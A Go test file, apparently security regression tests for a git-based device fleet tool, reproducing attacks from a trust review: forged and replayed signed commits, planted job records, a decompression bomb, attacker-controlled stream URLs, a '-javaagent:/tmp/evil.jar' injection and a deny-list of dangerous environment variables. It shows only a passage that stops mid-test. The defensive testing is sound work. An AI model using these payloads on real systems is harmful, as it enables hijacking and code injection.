package main

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/go-logr/logr"
	"github.com/stretchr/testify/require"

	"github.com/gitbroker/gitbroker/agent"
	"github.com/gitbroker/gitbroker/api"
	"github.com/gitbroker/gitbroker/gitsync"
	"github.com/gitbroker/gitbroker/gitsync/gitsynctest"
	"github.com/gitbroker/gitbroker/render"
	"github.com/gitbroker/gitbroker/renderer"
	"github.com/gitbroker/gitbroker/trust"
	"github.com/gitbroker/gitbroker/verify"
)

// The attacks of the trust review (issue "Trust, as attacked"), one test each, played with one
// node's key and the shared git credential against the real git server. Each test fails on the
// code before its fix.

// untrusted fails the test unless the render reported an untrusted input of ref saying why.
func (s *signedLoop) untrusted(out renderer.Outcome, ref, why string) {
	s.t.Helper()
	for _, u := range out.Result.Untrusted {
		if strings.HasPrefix(u, ref+":") && strings.Contains(u, why) {
			return
		}
	}
	s.t.Fatalf("no untrusted input for %s saying %q in:\n%s", ref, why, s.plan(out))
}

// inventoryWith returns whether the rendered branch's mirrored inventory of node mentions s.
func (s *signedLoop) inventoryWith(node, substr string) bool {
	return strings.Contains(s.renderedFile(api.InventoryPath(node)), substr)
}

// firmwareJob has edge-a report plc-1 for plc-firmware (with whatever the test set before),
// renders, lets "Flux" create the one Job and returns its name.
func (s *signedLoop) firmwareJob() string {
	s.t.Helper()
	s.nodes["edge-a"].set("plant/plc-firmware", "shared:plc-1")
	s.discover()
	s.renderTrust()
	require.Len(s.t, s.apply(), 1)
	jobs := s.jobs(render.RenderedDir, "plc-firmware")
	require.Len(s.t, jobs, 1)
	return strings.TrimSuffix(jobs[0], ".yaml")
}

// startAgent starts an agent of node as a restarted one is: nothing in memory, signing with
// signer and keeping to its own history, vanished devices kept for grace.
func (s *signedLoop) startAgent(node string, signer gitsync.Signer, devices *nodeDevices, grace time.Duration, extra ...gitsync.Option) *agent.Agent {
	s.t.Helper()
	store, _ := s.refs.agent(node, append([]gitsync.Option{gitsync.WithSigner(signer), gitsync.WithOwnHistory()}, extra...)...)
	a, err := agent.New(agent.Options{Node: node, Store: store, Configurations: s.refs.published(s.allowed), Handlers: agent.Builtin{"debugEcho": devices},
		Log: logr.Discard(), SharedGracePeriod: grace, LocalGracePeriod: grace})
	require.NoError(s.t, err)
	return a
}

// Finding 1: a folder branch's commit, which the renderer's key signed too, pushed onto
// gitbroker/rendered. Taken for the previous render, it had no metadata: the accepted tips were
// dropped, so a node's old commit, refused before, became acceptable again.
func TestAttackFolderCommitIsNotAPreviousRender(t *testing.T) {
	s := newSignedLoop(t)
	s.srv.CommitSigned(s.keyFiles["alice@example.com"], map[string]string{api.SettingsPath: "apiVersion: gitbroker.dev/v1alpha1\nkind: Settings\nspec:\n  flux:\n    folderSources:\n      url: https://git.example.com/fleet/edge.git\n"}, nil, "folder sources")
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0")
	s.discover()
	s.renderTrust()
	oldB := s.srv.On(verify.InventoryBranch("edge-b")).Head()
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz1")
	s.discover()
	out := s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	render := s.rendered().Head()

	var folder string
	for ref, hash := range s.srv.Heads() {
		if strings.HasPrefix(ref, api.FolderBranchPrefix) {
			folder = hash
		}
	}
	require.NotEmpty(t, folder, "folder sources make folder branches")
	msg, err := s.srv.VerifyCommit(folder, s.allowed)
	require.NoError(t, err, "the folder commit is the renderer's own signature: %s", msg)

	s.srv.SetRef(verify.RenderedBranch, folder)
	s.srv.SetRef(verify.InventoryBranch("edge-b"), oldB)
	// A renderer that starts now (a one-shot render) has only the branch, which holds no render
	// of its own: it refuses to render rather than start over without the tips it accepted.
	fresh := s.refs.renderer(s.keys["renderer"])
	_, err = fresh.Once(t.Context())
	require.ErrorContains(t, err, "no render commit on gitbroker/rendered is signed by this renderer's key")
	require.Equal(t, folder, s.rendered().Head())

	// The daemon knows the commit it pushed last: it reports the branch and renders over it.
	out = s.renderTrust()
	s.untrusted(out, verify.RenderedBranch, "this renderer pushed "+render[:12]+" last")
	s.untrusted(out, verify.InventoryBranch("edge-b"), "does not descend from")
	require.True(t, s.inventoryWith("edge-b", "baz1"), "the replayed inventory is not rendered")
	require.False(t, s.inventoryWith("edge-b", "baz0"))

	// A folder commit on top of the renderer's own render is not taken for a render either.
	s.srv.SetRef(verify.RenderedBranch, render)
	onTop := s.forge("renderer", verify.RenderedBranch, map[string][]byte{"rendered/kustomization.yaml": []byte("resources: []\n")})
	out, err = s.refs.renderer(s.keys["renderer"]).Once(t.Context())
	require.NoError(t, err)
	s.untrusted(out, verify.RenderedBranch, onTop[:12]+" is not a render signed by this renderer; everything after its own commit "+render[:12])
	require.NotEqual(t, "resources: []\n", s.renderedFile("rendered/kustomization.yaml"))
}

// Finding 1: an older render of the renderer's own pushed back onto gitbroker/rendered. The
// daemon adopted it silently, with the writers' tips it had accepted then: a node's replay,
// refused by the newer render, was rendered.
func TestAttackRolledBackRenderIsNotAdopted(t *testing.T) {
	s := newSignedLoop(t)
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0")
	s.discover()
	s.renderTrust()
	older := s.rendered().Head()
	oldB := s.srv.On(verify.InventoryBranch("edge-b")).Head()
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz1")
	s.discover()
	s.renderTrust()
	last := s.rendered().Head()
	newB := s.srv.On(verify.InventoryBranch("edge-b")).Head()
	require.NotEqual(t, older, last)

	s.srv.SetRef(verify.RenderedBranch, older)
	s.srv.SetRef(verify.InventoryBranch("edge-b"), oldB)
	out := s.renderTrust()
	s.untrusted(out, verify.RenderedBranch, "this renderer pushed "+last[:12]+" last, and the branch is at "+older[:12])
	s.untrusted(out, verify.InventoryBranch("edge-b"), "does not descend from")
	require.NotEmpty(t, out.Commit, "the render repairs the branch")
	require.True(t, s.inventoryWith("edge-b", "baz1"), "the replay is not rendered")

	// An orphan commit of the renderer's (or any) in place of the branch: the same.
	s.srv.SetRef(verify.RenderedBranch, "")
	out = s.renderTrust()
	s.untrusted(out, verify.RenderedBranch, "the branch is gone")
	require.True(t, s.inventoryWith("edge-b", "baz1"))
	s.srv.SetRef(verify.InventoryBranch("edge-b"), newB)
	out = s.renderTrust()
	require.Empty(t, out.Result.Untrusted, "repaired within one render: %s", s.plan(out))
}

// Finding 2: a record planted on top of the recorder's tip (here with a node's key) was kept
// by the real recorder, which skipped paths that existed and signed on top: a Failed Job
// retired as Succeeded.
func TestAttackPlantedRecordIsNotLaundered(t *testing.T) {
	s := newSignedLoop(t)
	job := s.firmwareJob()
	instance := s.instanceOf(job)

	forged := "apiVersion: gitbroker.dev/v1alpha1\nkind: JobRecord\nmetadata:\n  name: " + job + "\n  namespace: plant\nspec:\n  configuration: plc-firmware\n  instance: " + instance + "\n  deviceID: plc-1\n  outcome: Succeeded\n  succeeded: 1\n  failed: 0\n"
	s.forge("node:edge-a", verify.StatusBranch, map[string][]byte{api.JobRecordPath("plant", job): []byte(forged)})
	s.finish("plant", job, false)
	status := s.srv.On(verify.StatusBranch)
	require.Eventually(t, func() bool {
		c, _ := status.File(api.JobRecordPath("plant", job))
		return strings.Contains(c, "outcome: Failed")
	}, 20*time.Second, 10*time.Millisecond, "the recorder writes the Job's own outcome over what was planted")
	msg, err := s.srv.VerifyCommit(status.Head(), s.allowed)
	require.NoError(t, err, msg)
	require.Contains(t, msg, "recorder")
	for _, e := range status.Log() {
		require.NotContains(t, e.Subject, "forged", "the planted commit is no longer on the recorder's ref")
	}
	out := s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	record := s.renderedFile(api.JobRecordPath("plant", job))
	for _, p := range s.rendered().Files() {
		if strings.HasPrefix(p, render.HistoryDir) && strings.HasSuffix(p, job+".yaml") {
			record, _ = s.rendered().File(p)
		}
	}
	require.Contains(t, record, "outcome: Failed")
	require.NotContains(t, record, "outcome: Succeeded")
}

// Finding 6 for the recorder: a commit planted on gitbroker/status while no Job finishes is
// dropped within the recorder's repair interval, so the renderer takes its records again
// without a person and without waiting for the next Job.
func TestAttackPlantedStatusIsRepairedWithoutARecord(t *testing.T) {
	s := newSignedLoop(t)
	job := s.firmwareJob()
	s.finish("plant", job, true)
	status := s.srv.On(verify.StatusBranch)
	own := status.Head()
	s.forge("node:edge-a", verify.StatusBranch, map[string][]byte{"status/jobs/plant/other.yaml": []byte("x: 1\n")})
	require.NotEqual(t, own, status.Head())
	s.rec.Restore(t.Context()) // what Run does every Options.Repair (off here, so the other tests see what they planted)
	require.Equal(t, own, status.Head(), "the recorder puts its ref back")
	out := s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
}

// instanceOf returns the akri.sh/instance label of a rendered Job.
func (s *signedLoop) instanceOf(job string) string {
	for _, p := range s.rendered().Files() {
		if strings.HasSuffix(p, "/job-"+job+".yaml") {
			_, rest, _ := strings.Cut(s.renderedFile(p), "akri.sh/instance: ")
			instance, _, _ := strings.Cut(rest, "\n")
			return instance
		}
	}
	s.t.Fatalf("no rendered Job %s", job)
	return ""
}

// Finding 5: an unsigned commit on a node's ref adding a device with the attacker's stream URL;
// the agent, restarted, took it for its own last inventory, kept the device through its grace
// period and signed it, so it rendered.
func TestAttackRestartedAgentDoesNotSignPlantedDevices(t *testing.T) {
	t.Run("unchanged devices", func(t *testing.T) {
		// With nothing new to report, the agent still puts its ref back over what was planted.
		s := newSignedLoop(t)
		s.nodes["edge-b"].set("default/akri-debug-echo", "baz0")
		s.discover()
		s.renderTrust()
		own := s.srv.On(verify.InventoryBranch("edge-b")).Head()
		s.srv.On(verify.InventoryBranch("edge-b")).Commit(map[string]string{"inventory/extra.yaml": "x: 1\n"}, nil, "planted")
		s.discover()
		require.Equal(t, own, s.srv.On(verify.InventoryBranch("edge-b")).Head())
		out := s.renderTrust()
		require.Empty(t, out.Result.Untrusted, s.plan(out))
	})
	s := newSignedLoop(t)
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0")
	s.discover()
	s.renderTrust()
	inv := s.renderedFile(api.InventoryPath("edge-b"))
	planted := strings.Replace(inv, "    - id: baz0\n", "    - id: evil0\n      properties:\n        DEBUG_ECHO_DESCRIPTION: rtsp://attacker.example/stream\n      shared: false\n    - id: baz0\n", 1)
	require.NotEqual(t, inv, planted, inv)
	s.srv.On(verify.InventoryBranch("edge-b")).Commit(map[string]string{api.InventoryPath("edge-b"): planted}, nil, "planted")

	restarted := s.startAgent("edge-b", s.keys["node:edge-b"], s.nodes["edge-b"], time.Hour)
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0", "baz1")
	out, err := restarted.Sync(t.Context())
	require.NoError(t, err)
	require.Equal(t, 2, out.Devices, "the planted device is not the agent's")
	require.NotContains(t, s.srv.On(verify.InventoryBranch("edge-b")).Log()[0].Subject, "planted")
	head, _ := s.srv.On(verify.InventoryBranch("edge-b")).File(api.InventoryPath("edge-b"))
	require.NotContains(t, head, "evil0")
	require.Contains(t, head, "baz1")
	s.renderTrust()
	require.NotContains(t, s.brokersText(), "attacker.example")
	require.True(t, s.inventoryWith("edge-b", "baz1"))
}

// Finding 6: deleting a node's ref or gitbroker/status made the writer start a new root commit,
// refused for good as a replay or a rollback. A running writer builds on what it pushed last.
func TestAttackDeletedRefsRecoverByThemselves(t *testing.T) {
	s := newSignedLoop(t)
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0")
	job := s.firmwareJob()

	s.srv.SetRef(verify.InventoryBranch("edge-b"), "")
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0", "baz1")
	s.discover()
	out := s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	require.True(t, s.inventoryWith("edge-b", "baz1"))

	s.srv.SetRef(verify.StatusBranch, "")
	s.finish("plant", job, true)
	out = s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	require.Contains(t, s.plan(out), "retired")
}

// Finding 2: records signed by the recorder were not checked against the Job they name: one
// naming another Configuration (here the Job journal-reader waits for) released that
// Configuration's Pods, and one with negative counts retired its Job.
func TestAttackRecordsAreCheckedAgainstTheirJob(t *testing.T) {
	s := newSignedLoop(t)
	s.nodes["edge-a"].set("plant/plc-firmware", "shared:plc-1")
	s.nodes["edge-a"].set("plant/journal-format", "disk-1")
	s.nodes["edge-a"].set("plant/journal-reader", "disk-1")
	s.discover()
	out := s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	firmware := s.jobs(render.RenderedDir, "plc-firmware")
	format := s.jobs(render.RenderedDir, "journal-format")
	require.Len(t, firmware, 1)
	require.Len(t, format, 1)
	job := strings.TrimSuffix(firmware[0], ".yaml")
	formatInstance := s.instanceOf(strings.TrimSuffix(format[0], ".yaml"))
	require.NotContains(t, s.brokersText(), "journal-reader", "the reader waits for the format Job")

	record := func(cfg, instance, device, counts string) []byte {
		return []byte("apiVersion: gitbroker.dev/v1alpha1\nkind: JobRecord\nmetadata:\n  name: " + job + "\n  namespace: plant\nspec:\n  configuration: " + cfg + "\n  instance: " + instance + "\n  deviceID: " + device + "\n  outcome: Succeeded\n" + counts)
	}
	path := api.JobRecordPath("plant", job)
	s.forge("recorder", verify.StatusBranch, map[string][]byte{path: record("journal-format", formatInstance, "disk-1", "  succeeded: 1\n  failed: 0\n")})
	out = s.renderTrust()
	require.Contains(t, strings.Join(out.Result.Untrusted, "\n"), "it names Configuration journal-format and instance "+formatInstance+", but the Job plant/"+job+" was not rendered for them")
	require.NotContains(t, s.brokersText(), "journal-reader", "a record of another Job releases nothing")
	require.Equal(t, firmware, s.jobs(render.RenderedDir, "plc-firmware"), "nor retires its own Job")

	s.forge("recorder", verify.StatusBranch, map[string][]byte{path: record("plc-firmware", s.instanceOf(job), "plc-2", "  succeeded: 1\n  failed: 0\n")})
	out = s.renderTrust()
	require.Contains(t, strings.Join(out.Result.Untrusted, "\n"), `it names device "plc-2", but the Job plant/`+job+` ran for device "plc-1"`)
	require.Equal(t, firmware, s.jobs(render.RenderedDir, "plc-firmware"))

	s.forge("recorder", verify.StatusBranch, map[string][]byte{path: record("plc-firmware", s.instanceOf(job), "plc-1", "  succeeded: -1\n  failed: -5\n")})
	out, err := s.renderer.Once(t.Context())
	if err != nil {
		require.ErrorIs(t, err, gitsync.ErrNoChanges)
	}
	require.Contains(t, out.Result.Errors.Error(), "spec.succeeded: must not be negative")
	require.Equal(t, firmware, s.jobs(render.RenderedDir, "plc-firmware"))
}

// Every commit since the tip accepted last must be the writer's, not only the tip: an unsigned
// commit planted on edge-b's ref, with a commit signed by edge-b on top of it (an agent that
// signed on top of what it found), was accepted whole.
func TestAttackEveryCommitSinceTheAcceptedTipIsChecked(t *testing.T) {
	s := newSignedLoop(t)
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0")
	s.discover()
	s.renderTrust()
	inv := s.renderedFile(api.InventoryPath("edge-b"))
	ref := verify.InventoryBranch("edge-b")
	planted := s.srv.On(ref).Commit(map[string]string{api.InventoryPath("edge-b"): strings.ReplaceAll(inv, "baz0", "evil0")}, nil, "planted")
	s.forge("node:edge-b", ref, map[string][]byte{api.InventoryPath("edge-b"): []byte(strings.ReplaceAll(inv, "baz0", "evil0") + "\n")})
	out := s.renderTrust()
	s.untrusted(out, ref, "is signed, but "+planted[:12]+" before it")
	require.False(t, s.inventoryWith("edge-b", "evil0"))
	require.NotContains(t, s.brokersText(), "evil0")
}

// Finding 11: a submodule entry (gitlink) beside a node's inventory, signed by the node, was
// accepted: reading only files, the check never saw it.
func TestAttackGitlinkBesideAnInventoryIsRefused(t *testing.T) {
	s := newSignedLoop(t)
	s.nodes["edge-a"].set("default/akri-debug-echo", "bar0")
	s.discover()
	s.renderTrust()
	ref := verify.InventoryBranch("edge-a")
	tip := s.srv.On(ref).AddGitlink(s.keyFiles["node:edge-a"], "inventory/edge-b.yaml", s.srv.Head(), "a gitlink")
	msg, err := s.srv.VerifyCommit(tip, s.allowed)
	require.NoError(t, err, msg)
	out := s.renderTrust()
	s.untrusted(out, ref, "holds inventory/edge-b.yaml, which is not a file")
}

// forgeInventory commits node's inventory as the rendered branch mirrors it with old replaced
// by new, signed with node's own key (the stolen credential).
func (s *signedLoop) forgeInventory(node, old, new string) {
	s.t.Helper()
	inv := s.renderedFile(api.InventoryPath(node))
	require.Contains(s.t, inv, old)
	s.forge("node:"+node, verify.InventoryBranch(node), map[string][]byte{api.InventoryPath(node): []byte(strings.Replace(inv, old, new, 1))})
}

// Finding 8: device properties as env. A device's X_<DIGEST> named the digest form of its own
// X a second time (two env entries of one name, in an order that varied); a device value was
// expanded by the kubelet ($(VAR)); names such as JAVA_OPTS passed the deny-list; 64 values of
// 8 KiB made a Pod above the API server's request limit.
func TestAttackDeviceEnv(t *testing.T) {
	s := newSignedLoop(t)
	s.nodes["edge-a"].set("default/akri-debug-echo", "bar0")
	s.discover()
	s.renderTrust()
	_, rest, _ := strings.Cut(s.brokersText(), "akri.sh/instance: akri-debug-echo-")
	digest := strings.ToUpper(rest[:6])

	s.forgeInventory("edge-a", "        DEBUG_ECHO_DESCRIPTION: bar0\n",
		"        DEBUG_ECHO_DESCRIPTION: bar0\n        DEBUG_ECHO_DESCRIPTION_"+digest+": forged\n        DEBUG_ECHO_STREAM: rtsp://$(KUBERNETES_SERVICE_HOST)/x\n")
	out := s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	pods := s.brokersText()
	require.Equal(t, 1, strings.Count(pods, "name: DEBUG_ECHO_DESCRIPTION_"+digest+"\n"), pods)
	require.Contains(t, pods, "value: bar0", "the digest form of the reported property wins over a property of that name")
	require.Contains(t, pods, "rtsp://$$(KUBERNETES_SERVICE_HOST)/x", "escaped: the kubelet gives the broker the text")
	// A renderer that starts afresh renders the very same bytes: nothing to commit.
	fresh := s.refs.renderer(s.keys["renderer"])
	_, err := fresh.Once(t.Context())
	require.ErrorIs(t, err, gitsync.ErrNoChanges, "same inputs, same bytes")

	for _, name := range []string{"JAVA_OPTS", "NODE_TLS_REJECT_UNAUTHORIZED", "AWS_ENDPOINT_URL", "DOCKER_HOST", "KUBECONFIG", "ASPNETCORE_HOSTINGSTARTUPASSEMBLIES", "ERL_AFLAGS", "CATALINA_OPTS"} {
		require.True(t, api.RefusedDeviceProperty(name), name)
	}
	s.forgeInventory("edge-a", "        DEBUG_ECHO_STREAM:", "        JAVA_OPTS: -javaagent:/tmp/evil.jar\n        DEBUG_ECHO_STREAM:")
	out, err = s.renderer.Once(t.Context())
	if err != nil {
		require.ErrorIs(t, err, gitsync.ErrNoChanges)
	}
	require.Contains(t, out.Result.Errors.Error(), "a device may not set JAVA_OPTS")
	require.NotContains(t, s.brokersText(), "javaagent")

	var big strings.Builder
	for i := 0; i < 64; i++ {
		fmt.Fprintf(&big, "        DEBUG_ECHO_P%02d: %s\n", i, strings.Repeat("x", 8<<10-8))
	}
	s.forgeInventory("edge-a", "        JAVA_OPTS: -javaagent:/tmp/evil.jar\n", big.String())
	out, err = s.renderer.Once(t.Context())
	if err != nil {
		require.ErrorIs(t, err, gitsync.ErrNoChanges)
	}
	require.Contains(t, out.Result.Errors.Error(), "above the limit of 16384 per device")
	for _, p := range s.rendered().Files() {
		if strings.HasPrefix(p, render.RenderedDir) {
			c, _ := s.rendered().File(p)
			require.Less(t, len(c), 256<<10, p)
		}
	}
}

// enrollCANode enrolls a fleet SSH CA in a person's signed commit and gives node a key and a
// certificate for node:<node> signed by it; it returns the node's signer and the folder of its
// key (<node>, <node>.pub, <node>-cert.pub).
func (s *signedLoop) enrollCANode(node string) (*trust.Signer, string) {
	t := s.t
	t.Helper()
	dir := t.TempDir()
	keygen := func(args ...string) {
		out, err := exec.Command("ssh-keygen", args...).CombinedOutput()
		require.NoError(t, err, string(out))
	}
	keygen("-q", "-t", "ed25519", "-N", "", "-C", "fleet-ca", "-f", filepath.Join(dir, "ca"))
	keygen("-q", "-t", "ed25519", "-N", "", "-C", node, "-f", filepath.Join(dir, node))
	keygen("-q", "-s", filepath.Join(dir, "ca"), "-I", node, "-n", "node:"+node, "-V", "+52w", filepath.Join(dir, node+".pub"))
	caPub, err := os.ReadFile(filepath.Join(dir, "ca.pub"))
	require.NoError(t, err)
	s.allowed += `"node:*" cert-authority ` + string(caPub)
	s.srv.CommitSigned(s.keyFiles["alice@example.com"], map[string]string{verify.AllowedSignersPath: s.allowed}, nil, "enroll the fleet CA")
	signer, err := trust.LoadSigner(filepath.Join(dir, node))
	require.NoError(t, err)
	return signer, dir
}

// Finding 13: a fleet enrolled through an SSH CA could not decommission one node: its
// certificate stayed valid. .gitbroker/revoked_keys (git's gpg.ssh.revocationFile) retires it,
// here and in git's own verify-commit.
func TestAttackRevokedNodeKey(t *testing.T) {
	s := newSignedLoop(t)
	signer, dir := s.enrollCANode("edge-c")
	devices := &nodeDevices{devices: map[string][]api.Device{}}
	devices.set("default/akri-debug-echo", "cam0")
	c := s.startAgent("edge-c", signer, devices, 0)
	var err error
	_, err = c.Sync(t.Context())
	require.NoError(t, err)
	out := s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	require.Contains(t, s.brokersText(), "cam0")

	nodePub, err := os.ReadFile(filepath.Join(dir, "edge-c.pub"))
	require.NoError(t, err)
	s.srv.CommitSigned(s.keyFiles["alice@example.com"], map[string]string{verify.RevokedKeysPath: "# edge-c, decommissioned\n" + string(nodePub)}, nil, "decommission edge-c")
	devices.set("default/akri-debug-echo", "cam0", "cam1")
	_, err = c.Sync(t.Context())
	require.NoError(t, err)
	out = s.renderTrust()
	s.untrusted(out, verify.InventoryBranch("edge-c"), "a key .gitbroker/revoked_keys revokes")
	require.NotContains(t, s.brokersText(), "cam1")
	tip := s.srv.On(verify.InventoryBranch("edge-c")).Head()
	msg, err := s.srv.VerifyCommitRevoked(tip, s.allowed, string(nodePub))
	require.Error(t, err, "git refuses it too: %s", msg)
	msg, err = s.srv.VerifyCommit(tip, s.allowed)
	require.NoError(t, err, "and accepts it without the revocation: %s", msg)
}

// Finding 6: one unsigned commit on main (a merge made with a git host's button, a commit
// from before its author enrolled) stopped Configuration rendering for good. A person's signed
// commit that names it in a Gitbroker-Accept trailer lets the source walk go on through it; a
// trailer in a commit no person signed accepts nothing.
func TestAttackUnsignedSourceCommitIsAcceptedByAPerson(t *testing.T) {
	s := newSignedLoop(t)
	s.nodes["edge-a"].set("default/akri-debug-echo", "bar0")
	s.discover()
	s.renderTrust()
	cfg := string(s.mustFile("configurations/akri-debug-echo.yaml"))

	// The pull request's plan warns first: its unsigned commit, landed as it is, and a merge
	// commit of a host whose key main does not list, would each stop rendering.
	gitsynctest.Git(t, s.srv.Bare(), "branch", "feature/bump", "main")
	prHead := s.srv.On("feature/bump").Commit(map[string]string{"configurations/akri-debug-echo.yaml": strings.Replace(cfg, "nginx:stable-alpine", "nginx:1.27-alpine", 1)}, nil, "bump nginx")
	gitsynctest.Git(t, s.srv.Bare(), "update-ref", "refs/pull/8/head", prHead)
	code, stdout, stderr := gitbroker(t, "plan", "--git", s.srv.URL(), "--ref", "refs/pull/8/head")
	require.Equal(t, exitOK, code, stderr)
	require.Contains(t, stdout, "refs/pull/8/head: commit "+prHead[:12]+" is not signed by a person")
	require.Contains(t, stdout, `"Gitbroker-Accept: `+prHead+`"`)
	require.Contains(t, stdout, "a merge commit the git host makes for it would stop rendering")
	s.srv.CommitSigned(s.keyFiles["alice@example.com"], map[string]string{verify.TrustedKeysDir + "/host.asc": armoredPublic(t, mustEntity(t))}, nil, "trust the host's merges")
	s.renderTrust()
	code, stdout, stderr = gitbroker(t, "plan", "--git", s.srv.URL(), "--ref", "refs/pull/8/head")
	require.Equal(t, exitOK, code, stderr)
	require.NotContains(t, stdout, "a merge commit the git host makes", "the host's key is listed now")

	unsigned := s.srv.Commit(map[string]string{"configurations/akri-debug-echo.yaml": strings.Replace(cfg, "nginx:stable-alpine", "nginx:1.27-alpine", 1)}, nil, "Merge pull request #8 (the host did not sign it)")
	out := s.renderTrust()
	s.untrusted(out, "main", "commit "+unsigned[:12]+" is not signed by a person")
	require.Contains(t, strings.Join(out.Result.Untrusted, "\n"), `"Gitbroker-Accept: `+unsigned+`" accepts it`)
	require.NotContains(t, s.brokersText(), "nginx:1.27-alpine")

	// Someone without a person's key tries the trailer: nothing moves.
	s.srv.Commit(map[string]string{"README.md": "x\n"}, nil, "accept\n\n"+verify.TrailerAccept+": "+unsigned)
	out = s.renderTrust()
	s.untrusted(out, "main", "commit "+unsigned[:12]+" is not signed by a person")
	s.forge("node:edge-a", "main", map[string][]byte{"README.md": []byte("y\n")})

	// A person accepts it, and everything after it renders: the forged README commits are
	// unsigned too, and are accepted in the same commit.
	log := s.srv.Log()
	var accept []string
	for _, e := range log {
		if e.Hash == unsigned {
			break
		}
		accept = append(accept, verify.TrailerAccept+": "+e.Hash)
	}
	accept = append(accept, verify.TrailerAccept+": "+unsigned)
	s.srv.CommitSigned(s.keyFiles["alice@example.com"], map[string]string{"README.md": "reviewed\n"}, nil, "accept the host's merge\n\n"+strings.Join(accept, "\n"))
	out = s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	require.Contains(t, s.brokersText(), "nginx:1.27-alpine")
	require.Equal(t, s.srv.Head(), out.Source)
}

func mustEntity(t *testing.T) *openpgp.Entity {
	e, err := openpgp.NewEntity("GitHub", "web-flow commit signing", "noreply@github.com", nil)
	require.NoError(t, err)
	return e
}

// Finding 7: 150 MB of zeros (80 MB here) on a node's own ref, a few hundred kilobytes on the wire, took the
// renderer to 973 MB. The pack is refused before anything inflates, and only that node's part
// stays as it was: every other ref still renders.
func TestAttackDecompressionBomb(t *testing.T) {
	s := newSignedLoop(t)
	s.nodes["edge-a"].set("default/akri-debug-echo", "bar0")
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0")
	s.discover()
	s.renderTrust()
	ref := verify.InventoryBranch("edge-b")
	// Signed with edge-b's own (stolen) key, so that its size is the only thing wrong with it.
	s.forge("node:edge-b", ref, map[string][]byte{api.InventoryPath("edge-b"): make([]byte, 80<<20)})
	s.nodes["edge-a"].set("default/akri-debug-echo", "bar0", "bar1")
	_, err := s.agents["edge-a"].Sync(t.Context())
	require.NoError(t, err)
	var before runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	out := s.renderTrust()
	var after runtime.MemStats
	runtime.ReadMemStats(&after)
	s.untrusted(out, ref, "larger than the configured limit")
	require.True(t, s.inventoryWith("edge-b", "baz0"), "edge-b's verified inventory is kept")
	require.True(t, s.inventoryWith("edge-a", "bar1"), "the other nodes render")
	require.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(80<<20), "the zeros were never inflated")

	// The bomb does not stop edge-b for good: its agent cannot read its own ref, so it takes
	// the ref as gone and pushes over it, from what it pushed last.
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0", "baz1")
	_, err = s.agents["edge-b"].Sync(t.Context())
	require.NoError(t, err)
	out = s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	require.True(t, s.inventoryWith("edge-b", "baz1"))
	// Nor a restarted agent, which remembers nothing: it starts a new line that names its
	// accepted tip, which the renderer takes.
	s.srv.On(ref).Commit(map[string]string{api.InventoryPath("edge-b"): strings.Repeat("\x00", 80<<20)}, nil, "zeros again")
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz2")
	restarted := s.startAgent("edge-b", s.keys["node:edge-b"], s.nodes["edge-b"], 0, s.refs.acceptedTip(s.allowed, ref)...)
	_, err = restarted.Sync(t.Context())
	require.NoError(t, err)
	out = s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	require.True(t, s.inventoryWith("edge-b", "baz2"))
}

// podsOn lists the rendered Pod files pinned to node.
func (s *signedLoop) podsOn(node string) []string {
	var out []string
	for _, p := range s.rendered().Files() {
		if strings.Contains(p, "/deployment-"+node+"-") {
			out = append(out, p)
		}
	}
	return out
}

// Finding 3: node A reports node B's shared device with its own properties. With capacity 1,
// B's broker moved to A (first by name) and the instance Service selected A's Pod; its
// properties were A's. Now a disagreement holds the instance as it was, placement is sticky,
// and A making its own inventory invalid no longer freezes B's instance.
func TestAttackSharedDeviceHijack(t *testing.T) {
	s := newSignedLoop(t)
	cfg := string(s.mustFile("configurations/akri-debug-echo.yaml"))
	require.Contains(t, cfg, "  capacity: 2\n")
	s.srv.CommitSigned(s.keyFiles["alice@example.com"], map[string]string{"configurations/akri-debug-echo.yaml": strings.Replace(cfg, "  capacity: 2\n", "  capacity: 1\n", 1)}, nil, "one broker per camera")
	s.nodes["edge-b"].set("default/akri-debug-echo", "shared:cam-1")
	s.discover()
	s.renderTrust()
	require.Len(t, s.podsOn("edge-b"), 1)
	require.Empty(t, s.podsOn("edge-a"))
	pod := s.podsOn("edge-b")[0]
	before := s.renderedFile(pod)

	// A claims the device with its own stream.
	s.forgeInventory("edge-a", "spec: {}\n", "spec:\n  configurations:\n  - devices:\n    - id: cam-1\n      properties:\n        DEBUG_ECHO_DESCRIPTION: rtsp://attacker.example/cam\n      shared: true\n    name: akri-debug-echo\n    namespace: default\n")
	out := s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	require.Contains(t, s.plan(out), "report shared device \"cam-1\" with different properties")
	require.Empty(t, s.podsOn("edge-a"), "the broker does not move to the claiming node")
	require.Equal(t, before, s.renderedFile(pod), "the instance is held as it was")
	require.NotContains(t, s.brokersText(), "attacker.example")

	// A copies B's properties exactly: they agree, and B keeps the broker (capacity 1).
	s.forgeInventory("edge-a", "rtsp://attacker.example/cam", "cam-1")
	out = s.renderTrust()
